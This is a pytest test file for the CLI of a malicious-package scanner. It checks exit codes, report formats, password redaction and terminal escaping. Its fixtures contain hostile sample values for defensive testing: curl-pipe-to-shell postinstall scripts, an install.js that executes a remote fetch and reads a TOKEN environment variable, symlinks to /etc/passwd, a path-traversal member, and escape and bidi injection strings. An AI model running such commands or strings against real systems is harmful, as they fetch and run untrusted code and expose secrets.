"""The command line: exit codes, report shape and order, stdout/stderr split, terminal safety."""

from __future__ import annotations

import gzip
import io
import json
import re
import shutil
import struct
import tarfile
import zlib
from pathlib import Path
from typing import Any

import pytest

from malseq import _cli

# Characters that must never reach a terminal raw: C0/C1 controls (escape sequences),
# DEL, and the bidi overrides/isolates of "Trojan Source".
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")
ESC = "\x1b[31m"
RLO = "\u202e"


def tgz(files: dict[str, bytes | str], links: dict[str, str] | None = None) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, data in files.items():
            raw = data.encode() if isinstance(data, str) else data
            info = tarfile.TarInfo(name)
            info.size = len(raw)
            tf.addfile(info, io.BytesIO(raw))
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            tf.addfile(info)
    return gzip.compress(buf.getvalue(), mtime=0)


def npm_package(tmp_path: Path, filename: str = "pkg.tgz", name: str = "good-pkg",
                postinstall: str = "node install.js", **extra: bytes | str) -> Path:
    manifest = {"name": name, "version": "1.0.0", "scripts": {"postinstall": postinstall}}
    target = tmp_path / filename
    target.write_bytes(tgz({"package/package.json": json.dumps(manifest), "package/install.js": "let a = 1;\n",
                            **{f"package/{k}": v for k, v in extra.items()}}))
    return target


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = _cli.main(["scan", *argv])
    out, err = capsys.readouterr()
    return code, out, err


# ---------------------------------------------------------------------------
# Exit codes


def test_clean_scan_exits_0(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, "--no-analysis", str(npm_package(tmp_path)))
    assert code == 0
    assert out.startswith(f"{tmp_path / 'pkg.tgz'}: npm:good-pkg@1.0.0 (2 files")
    assert err == ""  # one target: no progress lines


def test_folder_target(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = tmp_path / "pkg"
    folder.mkdir()
    (folder / "setup.py").write_text("from setuptools import setup\nsetup(name='folder-pkg', version='2.0')\n")
    code, out, _ = run(capsys, "--no-analysis", "--format", "json", str(folder))
    assert code == 0
    [entry] = json.loads(out)
    assert entry["package"]["origin"]["kind"] == "folder"
    assert (entry["package"]["ecosystem"], entry["package"]["name"]) == ("pypi", "folder-pkg")
    assert entry["package"]["has_setup_py"] is True


@pytest.mark.parametrize(
    "argv",
    [
        ["/no/such/path.tgz"],
        ["pypi:bad name"],
        ["npm:@"],
        ["pkg:gem/rails@1"],
        ["--format", "xml", "x"],
        ["--timeout", "0", "."],
        ["--timeout", "-5", "."],
        ["--timeout", "soon", "."],
        ["--no-such-option", "."],
        [],
    ],
)
def test_usage_errors_exit_2_and_scan_nothing(argv: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, "--no-analysis", *argv)
    assert code == 2
    assert out == ""
    assert "error" in err


@pytest.mark.parametrize(("command", "flag", "value", "says"), [
    ("scan", "--npm-registry", "registry.example", "--npm-registry gives 'registry.example', which is not an http"),
    ("audit", "--pypi-index-url", "ftp://pypi.example/simple", "--pypi-index-url gives 'ftp://pypi.example/simple'"),
    # the password is never echoed
    ("audit", "--npm-registry", "https://user:s3cret@:99/", "--npm-registry gives 'https://:99/'"),
    ("diff", "--npm-registry", "x", "--npm-registry gives 'x', which is not an http(s) URL"),
    # no scheme: urlsplit reads `u` as the scheme and the secret as the path, yet it is never echoed either
    ("scan", "--pypi-index-url", "u:s3cret@pypi.example/simple", "--pypi-index-url gives '***@pypi.example/simple'"),
    ("diff", "--pypi-index-url", "u:s3cret@pypi.example/simple", "--pypi-index-url gives '***@pypi.example/simple'"),
    ("audit", "--pypi-index-url", "u:s3cret@pypi.example/simple", "--pypi-index-url gives '***@pypi.example/simple'"),
    ("audit", "--npm-registry", "u:s3cret@registry.example", "--npm-registry gives '***@registry.example'"),
    ("audit", "--cache-dir", "FILE", "is not a folder"),
])
def test_a_registry_flag_that_cannot_work_is_a_usage_error_before_any_work(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str, flag: str, value: str, says: str) -> None:
    # not one scan error per target (exit 3), nor a cache silently not written
    (tmp_path / "package-lock.json").write_text('{"lockfileVersion": 3, "packages": {"node_modules/a": '
                                                '{"version": "1.0.0"}}}')
    (tmp_path / "FILE").write_text("")
    value = str(tmp_path / "FILE") if value == "FILE" else value
    targets = {"scan": ["npm:a@1.0.0"], "audit": [str(tmp_path)], "diff": ["npm:a@1.0.0", "npm:a@1.0.1"]}[command]
    code = _cli.main([command, *targets, "-q", "--no-isolate", "--offline", flag, value])
    captured = capsys.readouterr()
    assert code == 2 and captured.out == "", captured.out
    assert says in captured.err and "s3cret" not in captured.err


@pytest.mark.parametrize(("argv", "says"), [
    (["watch", "--source", "npm-changes", "--once", "--npm-changes-url", "ftp://u:s3cret@feed.example/"],
     "--npm-changes-url gives 'ftp://feed.example/', which is not an http(s) URL"),
    (["watch", "--source", "pypi-rss", "--once", "--pypi-feed-url", "feed.example"],  # was a traceback, exit 1
     "--pypi-feed-url gives 'feed.example', which is not an http(s) URL"),
    (["watch", "--source", "pypi-simple", "--once", "--pypi-index-url", "https://u:s3cret@:99/"], "gives 'https://:99/'"),
    (["watch", "--source", "pypi-simple", "--once", "--cache-dir", "FILE"], "is not a folder"),
    (["serve", "--npm-registry", "ftp://u:s3cret@registry.example/"], "--npm-registry gives 'ftp://registry.example/'"),
    (["serve", "--export-labels", "OUT", "--cache-dir", "FILE"], "is not a folder"),
    # no scheme: the `user:pass@` is still never echoed
    (["watch", "--source", "pypi-simple", "--once", "--pypi-index-url", "u:s3cret@pypi.example/simple"],
     "--pypi-index-url gives '***@pypi.example/simple'"),
    (["watch", "--source", "npm-changes", "--once", "--npm-changes-url", "u:s3cret@feed.example/"],
     "--npm-changes-url gives '***@feed.example/'"),
    (["serve", "--pypi-index-url", "u:s3cret@pypi.example/simple"], "--pypi-index-url gives '***@pypi.example/simple'"),
    (["serve", "--npm-registry", "u:s3cret@registry.example"], "--npm-registry gives '***@registry.example'"),
])
def test_watch_and_serve_registry_flags_are_checked_before_any_work(
        tmp_path: Path, capsys: pytest.CaptureFixture[str], argv: list[str], says: str) -> None:
    # as for scan/diff/audit: exit 2 before the watch database is opened (or even looked for), no secret echoed
    (tmp_path / "FILE").write_text("")
    db = tmp_path / "watch.db"
    argv = [str(tmp_path / a) if a in ("FILE", "OUT") else a for a in argv]
    code = _cli.main([*argv, "--db", str(db)])
    captured = capsys.readouterr()
    assert code == 2 and captured.out == "", captured.out
    assert says in captured.err and "s3cret" not in captured.err
    assert not db.exists() and not (tmp_path / "OUT").exists()


def test_one_bad_target_among_good_ones_is_a_usage_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # Targets are parsed before any work starts: a typo fails fast, nothing is scanned.
    good = npm_package(tmp_path)
    code, out, err = run(capsys, "--no-analysis", str(good), str(tmp_path / "typo.tgz"))
    assert code == 2 and out == ""
    assert "typo.tgz" in err and "is neither an existing path nor a registry release" in err
    assert "[1/2]" not in err


def test_no_command_and_help(capsys: pytest.CaptureFixture[str]) -> None:
    assert _cli.main([]) == 2
    assert _cli.main(["scan", "--help"]) == 0
    assert "TARGET" in capsys.readouterr().out


def test_scan_help_spells_package_urls_and_lockfiles_as_they_are_typed(capsys: pytest.CaptureFixture[str]) -> None:
    from malseq.intake.lockfiles import SUPPORTED

    assert _cli.main(["scan", "--help"]) == 0
    text = " ".join(capsys.readouterr().out.split())  # argparse wraps lines
    assert "pkg:npm/%40scope/name@1.0.0" in text and "%%" not in text  # a description is not %-formatted
    lockfile_help = text.split("--lockfile FILE", 2)[2]
    for name in SUPPORTED.replace(" (classic and berry)", "").split(", "):  # every lockfile --lockfile reads
        assert name in lockfile_help.split("repeatable")[0], name


def test_a_single_source_file_points_to_its_package_folder(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    package = tmp_path / "tinylib"
    (package / "tinylib").mkdir(parents=True)
    (package / "setup.py").write_text("from setuptools import setup\nsetup(name='tinylib')\n")
    module = package / "tinylib" / "core.py"
    module.write_text("import os\n")
    code, out, _ = run(capsys, "--no-isolate", "-q", str(module), str(package / "setup.py"))
    assert code == 3
    assert out.splitlines()[0] == (f"{module}: ERROR ArchiveFormatError: not an archive malseq can read (expected "
                                   "tar, tar.gz/bz2/xz, zip, wheel, egg or npm tgz)")
    # the module's and setup.py's: the same folder, the package's, so the report says it once for both
    assert (f"hint (for 2 targets above): malseq scans a package, not a single file: give the package's folder "
            f"(malseq scan {package}) or its archive") in out
    loose = tmp_path / "notes.txt"  # no manifest above: the file's own folder
    loose.write_text("hello\n")
    _, out, _ = run(capsys, "--no-isolate", "-q", "--format", "json", str(loose))
    assert json.loads(out)[0]["error"]["hint"].endswith(f"(malseq scan {tmp_path}) or its archive")


def test_any_failed_target_exits_3(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    broken = tmp_path / "broken.tgz"
    broken.write_bytes(b"")
    code, out, _ = run(capsys, "--no-analysis", str(npm_package(tmp_path)), str(broken))
    assert code == 3
    lines = out.splitlines()
    assert lines[-3] == f"{broken}: ERROR CorruptArchiveError: file is empty (0 bytes)"
    assert lines[-2] == "  hint: the file may be an incomplete download; fetch it again"
    assert lines[-1] == "summary: 2 target(s): 1 scanned, 0 flagged, 1 error(s), 0 suppressed"


# ---------------------------------------------------------------------------
# JSON report


def test_json_is_a_list_in_target_order(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a = npm_package(tmp_path, "a.tgz", name="a")
    bad = tmp_path / "bad.zip"
    bad.write_bytes(b"PK\x03\x04" + bytes(20))
    b = npm_package(tmp_path, "b.tgz", name="b")
    targets = [str(b), str(bad), str(a)]
    code, out, err = run(capsys, "--no-analysis", "--format", "json", *targets)
    assert code == 3
    report = json.loads(out)
    assert isinstance(report, list)
    assert [r["target"] for r in report] == targets
    for r in report:
        assert ("package" in r) != ("error" in r), r
        assert isinstance(r["seconds"], float)
    assert [r.get("package", {}).get("name") for r in report] == ["b", None, "a"]
    assert set(report[1]["error"]) == {"type", "message", "hint"}
    assert report[1]["error"]["type"] == "CorruptArchiveError"
    package = report[0]["package"]
    assert set(package) >= {"ecosystem", "name", "version", "origin", "files", "bytes", "languages", "binaries",
                            "skipped", "install_scripts", "has_setup_py", "pth_files"}
    assert package["install_scripts"] == {"postinstall": "node install.js"}
    assert package["origin"]["format"] == "tar+gzip" and len(package["origin"]["sha256"]) == 64
    # Progress went to stderr, one line per target as it finished (workers finish in any order);
    # stdout held the JSON, in input order, and nothing else.
    # then why the run failed (the exit line)
    lines = err.splitlines()
    assert lines[-1] == f"malseq: exit 3: 1 target(s) not scanned completely or without a verdict: {bad} " \
        "(see the report; fail-on errors)"
    progress = [line.split(":")[0].split(" ", 1) for line in lines[:-1]]
    assert [n for n, _ in progress] == ["[1/3]", "[2/3]", "[3/3]"]
    assert sorted(t for _, t in progress) == sorted(targets)


def test_quiet_silences_progress(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    a, b = npm_package(tmp_path, "a.tgz"), npm_package(tmp_path, "b.tgz")
    code, out, err = run(capsys, "--no-analysis", "-q", "--format", "json", str(a), str(b))
    assert code == 0 and err == ""
    assert len(json.loads(out)) == 2


def test_json_escapes_everything_unsafe(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    target = npm_package(tmp_path, name=f"{ESC}evil{RLO}", postinstall=f"curl x|sh {ESC}\x07{RLO}\r")
    code, out, _ = run(capsys, "--no-analysis", "--format", "json", str(target))
    assert code == 0
    assert not UNSAFE.search(out.replace("\n", ""))
    assert out.isascii()
    [entry] = json.loads(out)
    assert entry["package"]["name"] == f"{ESC}evil{RLO}"  # data is kept, only the encoding escapes it


# ---------------------------------------------------------------------------
# Terminal safety in text mode


def hostile_package(tmp_path: Path) -> Path:
    folder = tmp_path / f"dir{ESC}"
    folder.mkdir()
    return npm_package(
        folder,
        filename=f"sample{RLO}gpj.tgz",
        name=f"{ESC}evil\u2066pkg{RLO}",
        postinstall=f"curl http://x | sh {ESC}\x1b]0;title\x07 \u202a\u2069 \x9b31m done\r\nsecond line",
        **{f"bin{ESC}.dat": b"\x7fELF" + bytes(32), f"\x1b[2Jlink{RLO}": "1"},
    )


def test_text_report_never_prints_control_or_bidi_characters(tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    target = hostile_package(tmp_path)
    code, out, err = run(capsys, "--no-analysis", str(target), str(target))
    assert code == 0
    for stream in (out, err):
        assert not UNSAFE.search(stream.replace("\n", "")), stream
    assert "\\x1b[31mevil\\u2066pkg\\u202e" in out  # visible, escaped
    assert "install script postinstall: curl http://x | sh \\x1b[31m\\x1b]0;title\\x07" in out
    assert "\\r\\nsecond line" in out  # newlines in a value cannot forge report lines


def test_text_report_line_structure_survives_hostile_values(tmp_path: Path,
                                                            capsys: pytest.CaptureFixture[str]) -> None:
    target = hostile_package(tmp_path)
    code, out, _ = run(capsys, "--no-analysis", str(target))
    assert code == 0
    lines = out.splitlines()
    assert lines[0].startswith(str(target).replace(ESC, "\\x1b[31m").replace(RLO, "\\u202e") + ": npm:")
    assert [ln.split(":")[0].strip() for ln in lines[1:]] == ["file", "install script postinstall", "binaries",
                                                             "summary"]
    # the scanned file's name is the archive's, escaped like every other value
    assert lines[1].startswith("  file: " + target.name.replace(ESC, "\\x1b[31m").replace(RLO, "\\u202e") + " sha256 ")


def test_skipped_member_names_are_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    target = tmp_path / "links.tgz"
    target.write_bytes(tgz({"package/package.json": '{"name": "l", "version": "1"}'},
                           links={f"package/{ESC}x{RLO}": f"/etc/{ESC}passwd"}))
    code, out, _ = run(capsys, "--no-analysis", str(target))
    assert code == 0
    assert not UNSAFE.search(out.replace("\n", ""))
    assert "skipped 1 member(s):" in out
    assert "    \\x1b[31mx\\u202e: symbolic link to '/etc/\\x1b[31mpasswd' (absolute target" in out


def test_error_messages_are_escaped(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # An archive member name ends up in an error message: it must not reach the terminal raw.
    bad = tmp_path / "enc.zip"
    name = f"{ESC}x{RLO}.py".encode()
    body = b"secret"
    flags = 0x800 | 0x1  # UTF-8 name, encrypted
    local = struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, flags, 0, 0, 0x21, zlib.crc32(body), len(body) + 12,
                        len(body), len(name), 0) + name + bytes(12) + body
    central = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, flags, 0, 0, 0x21, zlib.crc32(body),
                          len(body) + 12, len(body), len(name), 0, 0, 0, 0, 0, 0) + name
    bad.write_bytes(local + central + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, len(central),
                                                  len(local), 0))
    code, out, _ = run(capsys, "--no-analysis", str(bad))
    assert code == 3
    assert "ERROR ArchivePasswordError: zip member '\\x1b[31mx\\u202e.py' is encrypted" in out
    assert not UNSAFE.search(out.replace("\n", ""))


def test_with_analysis_the_output_stays_clean(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    # Through the whole pipeline, behaviours and snippets included.
    target = npm_package(
        tmp_path, name=f"{ESC}evil{RLO}", postinstall=f"node install.js {ESC}{RLO}",
        **{"install.js": f"require('child_process').exec('curl {ESC}x{RLO} | sh'); // {RLO}\n"
                         f"process.env['{ESC}TOKEN'];\n"},
    )
    code = _cli.main(["scan", "--features", str(target)])
    out, err = capsys.readouterr()
    assert code in (0, 1), err
    assert not UNSAFE.search(out.replace("\n", "")), out


# ---------------------------------------------------------------------------
# Failures of the report itself: exit 4 and one line on stderr, never 1 ("flagged") or a traceback


def _malseq(tmp_path: Path, stdout: int, *argv: str) -> tuple[int, str]:
    import os
    import subprocess
    import sys

    import malseq

    src = str(Path(malseq.__file__).resolve().parent.parent)
    env = {**os.environ, "PYTHONPATH": os.pathsep.join([src, os.environ.get("PYTHONPATH", "")])}
    with open(tmp_path / "stderr.txt", "wb") as err:
        proc = subprocess.run([sys.executable, "-m", "malseq", "scan", "--no-isolate", *argv], stdout=stdout,
                              stderr=err, env=env, timeout=300)
    return proc.returncode, (tmp_path / "stderr.txt").read_text()


def test_a_full_disk_exits_4_with_one_line(tmp_path: Path) -> None:
    target = str(npm_package(tmp_path))
    for fmt in ("text", "json"):
        with open("/dev/full", "wb") as full:  # every write fails with ENOSPC, as on a full disk
            code, err = _malseq(tmp_path, full.fileno(), "--no-analysis", "--format", fmt, target, target)
        assert code == 4, err
        assert err.splitlines()[-1] == ("malseq: error: the report could not be written to stdout: "
                                        "No space left on device")
        assert "Traceback" not in err and "Exception ignored" not in err
        assert len([ln for ln in err.splitlines() if not ln.startswith("[")]) == 1  # besides the progress lines


def test_a_reader_that_went_away_exits_4_with_one_line(tmp_path: Path) -> None:
    import os

    read_end, write_end = os.pipe()
    os.close(read_end)  # the reader is gone before the report is written (`malseq scan ... | head -c 10`)
    try:
        code, err = _malseq(tmp_path, write_end, "--no-analysis", "-q", str(npm_package(tmp_path)))
    finally:
        os.close(write_end)
    assert code == 4, err
    assert err == "malseq: error: the report could not be written to stdout: Broken pipe\n"


# ---------------------------------------------------------------------------
# A scan cannot pass silently: nothing to analyse, a project folder, members not read

EXAMPLES = Path(__file__).resolve().parent.parent / "examples"


def test_a_target_with_nothing_to_analyse_is_an_error_never_benign(tmp_path: Path,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    empty = tmp_path / "empty"
    empty.mkdir()
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "README.md").write_text("# hello\n")
    images = tmp_path / "images.tgz"
    images.write_bytes(tgz({"package/logo.png": b"\x89PNG\r\n", "package/README": "hi"}))
    escaped = tmp_path / "escaped.tgz"  # its only code escapes the archive, so it is skipped
    escaped.write_bytes(tgz({"../../evil.js": "require('child_process').exec('x')"}))
    code, out, _ = run(capsys, "-q", "--no-isolate", "--format", "json", str(empty), str(docs), str(images),
                       str(escaped))
    assert code == 3
    report = json.loads(out)
    assert [r["error"]["type"] for r in report] == ["NothingToScanError"] * 4
    assert all("verdict" not in r and "score" not in r for r in report)
    assert report[0]["error"]["message"].startswith("nothing to analyse: the folder holds no files: no package.json")
    assert "the folder holds 1 file(s) but no package" in report[1]["error"]["message"]
    assert "(1 member(s) skipped: see skipped)" in report[3]["error"]["message"]
    assert report[3]["package"]["skipped"][0]["reason"] == "path traversal (..)"
    assert "npm:NAME@VERSION" in report[0]["error"]["hint"]


def poisoned_project(tmp_path: Path) -> Path:
    """An app whose node_modules holds a copy of the npm stealer example."""
    import shutil

    root = tmp_path / "app"
    root.mkdir()
    (root / "package.json").write_text(json.dumps({"name": "app", "version": "1.0.0",
                                                   "dependencies": {"colorz-utils": "1.0.3"}}))
    (root / "index.js").write_text("console.log('hello');\n")
    shutil.copytree(EXAMPLES / "npm-env-exfil", root / "node_modules" / "colorz-utils")
    return root


def test_a_project_folder_is_not_a_clean_pass(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    root = poisoned_project(tmp_path)
    code, out, err = run(capsys, "--no-isolate", str(root))
    # whatever the folder-as-one-package verdict, the installed stealer was not judged: never exit 0
    assert code == (1 if "verdict: MALICIOUS" in out else 3), out
    assert (f"  NOT SCANNED COMPLETELY: this folder looks like a project, not a package: 1 installed npm "
            f"package(s) in {root}/node_modules were not scanned one by one (e.g. colorz-utils)") in out
    assert (f"  hint: audit it as a project: malseq audit {root}, or scan each as a target too: "
            f"malseq scan {root} {root}/node_modules/[!@]*") in out
    assert out.splitlines()[-1].endswith(", 1 not scanned completely")
    code, out, _ = run(capsys, "--no-isolate", "--no-analysis", "--format", "json", str(root))
    assert code == 3
    [entry] = json.loads(out)
    assert [n["kind"] for n in entry["notices"]] == ["node_modules"]


def test_a_project_scanned_with_its_installed_packages_is_complete(tmp_path: Path,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    root = poisoned_project(tmp_path)
    code, out, _ = run(capsys, "--no-isolate", "-q", str(root), str(root / "node_modules" / "colorz-utils"))
    assert code == 1  # the stealer, scanned as its own target, is flagged
    assert "NOT SCANNED COMPLETELY" not in out
    assert out.splitlines()[-1] == "summary: 2 target(s): 2 scanned, 1 flagged, 0 error(s), 0 suppressed"


def test_progress_says_each_verdict_as_the_target_finishes(tmp_path: Path,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    bad = tmp_path / "bad.zip"
    bad.write_bytes(b"PK\x03\x04" + bytes(20))
    code, out, err = run(capsys, "--no-isolate", str(EXAMPLES / "npm-env-exfil"), str(EXAMPLES / "pypi-clean-lib"),
                         str(bad))
    assert code == 1 and "verdict: MALICIOUS" in out
    # (progress lines only: a model warning, when the analysis code changed since training, is not progress)
    progress = [line for line in err.splitlines() if line.startswith("[")]
    statuses = [line.split(": ", 1)[1].rsplit(" (", 1)[0] for line in progress]
    assert re.fullmatch(r"MALICIOUS (0\.9\d|1\.00)", statuses[0]), statuses
    assert re.fullmatch(r"benign 0\.\d\d", statuses[1]), statuses
    assert statuses[2] == "error (CorruptArchiveError)"
    assert " ok " not in err and ": ok" not in err


def test_a_verdict_says_when_members_were_not_read(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    target = tmp_path / "links.tgz"
    target.write_bytes(tgz({"package/package.json": '{"name": "l", "version": "1.0.0", "main": "index.js"}',
                            "package/index.js": "module.exports = 1;\n"},
                           links={"package/secret.js": "/etc/passwd", "package/copy.js": "index.js"}))
    code, out, _ = run(capsys, "--no-isolate", str(target))
    assert code in (0, 1)
    [verdict] = [line for line in out.splitlines() if line.startswith("  verdict: ")]
    # the absolute link was not read; the link to index.js was (as a copy), so it does not count
    assert verdict.endswith("; 1 member(s) NOT READ, see skipped"), verdict
    assert "  skipped 2 member(s):" in out


def test_one_small_local_target_is_scanned_without_a_worker_unless_isolation_is_asked_for(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    """Start-up (issue 14 part 4): a worker process for one small local package costs more than its scan."""
    import malseq._isolation as isolation
    from malseq._cli import SMALL_LOCAL_BYTES, main, single_small_local

    pools: list[int] = []
    real_pool = isolation.WorkerPool

    class CountingPool(real_pool):  # type: ignore[misc, valid-type]
        def __init__(self, *args: Any, **kwargs: Any) -> None:
            pools.append(1)
            super().__init__(*args, **kwargs)

    monkeypatch.setattr(isolation, "WorkerPool", CountingPool)
    small = str(EXAMPLES / "pypi-clean-lib")
    assert main(["scan", "-q", small]) == 0
    assert pools == [] and "BENIGN" in capsys.readouterr().out
    assert main(["scan", "-q", "--isolate", small]) == 0  # asked for: a worker, same verdict
    assert pools == [1] and "BENIGN" in capsys.readouterr().out
    assert main(["scan", "-q", small, str(EXAMPLES / "npm-env-exfil")]) == 1  # a batch: isolated
    assert pools == [1, 1]
    big = tmp_path / "big"
    shutil.copytree(EXAMPLES / "pypi-clean-lib", big)
    (big / "data.py").write_text("X = 1\n" * (SMALL_LOCAL_BYTES // 6 + 1))
    assert not single_small_local([str(big)]) and single_small_local([small])
    assert main(["scan", "-q", str(big)]) == 0
    assert pools == [1, 1, 1]
    many = tmp_path / "many"
    shutil.copytree(EXAMPLES / "pypi-clean-lib", many)
    for i in range(1001):
        (many / f"empty{i}.txt").write_text("")
    assert not single_small_local([str(many)])  # too many entries to look at: isolated
    assert not single_small_local(["pypi:requests==2.32.3"])  # registry releases stay isolated
    archive = shutil.make_archive(str(tmp_path / "lib-1.0"), "gztar", EXAMPLES, "pypi-clean-lib")
    assert single_small_local([archive])


def test_cache_folder_defaults_in_help_are_the_ones_used(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    from malseq.intake import IntakeOptions
    from malseq.intake.registry.config import cache_root

    assert _cli.main(["scan", "--help"]) == 0
    help_text = " ".join(capsys.readouterr().out.split())
    assert "download cache (default: $MALSEQ_CACHE_DIR, else $XDG_CACHE_HOME/malseq, else ~/.cache/malseq)" in help_text
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    assert cache_root(IntakeOptions()) == tmp_path / "xdg" / "malseq"
    monkeypatch.delenv("XDG_CACHE_HOME")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    assert cache_root(IntakeOptions()) == tmp_path / "home" / ".cache" / "malseq"
    pytest.importorskip("malseq_lab")
    from malseq_lab.corpus import default_workdir

    assert _cli.main(["eval", "--help"]) == 0
    help_text = " ".join(capsys.readouterr().out.split())
    assert ("corpus work dir (default: $MALSEQ_CORPUS_DIR, else $MALSEQ_CACHE_DIR/corpus, else "
            "~/.cache/malseq/corpus)") in help_text
    monkeypatch.delenv("MALSEQ_CORPUS_DIR", raising=False)
    monkeypatch.setenv("MALSEQ_CACHE_DIR", str(tmp_path / "cache"))
    assert default_workdir() == tmp_path / "cache" / "corpus"


@pytest.mark.parametrize("command", ["scan", "audit", "diff"])
def test_an_unknown_option_shows_the_commands_own_usage(command: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Not the top level's, which for a scan lists only `{scan}` (the other commands are not loaded)."""
    from malseq._cli import main

    assert main([command, "--no-such-option", "x", *(["y"] if command == "diff" else [])]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"usage: malseq {command} ") and "unrecognized arguments: --no-such-option" in err


def test_a_failing_scan_says_why_on_stderr_even_quiet(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A CI job that sends SARIF or JSON to a file must still log why it failed."""
    from malseq._cli import main

    broken = tmp_path / "broken.tgz"
    broken.write_bytes(b"\x1f\x8b\x08\x00truncated")
    assert main(["scan", "-q", "--no-analysis", "--format", "json", str(broken)]) == 3
    err = capsys.readouterr().err
    assert f"malseq: exit 3: 1 target(s) not scanned completely or without a verdict: {broken}" in err
    assert main(["scan", "-q", "--no-analysis", "--fail-on", "none", str(broken)]) == 0
    assert "malseq: exit" not in capsys.readouterr().err
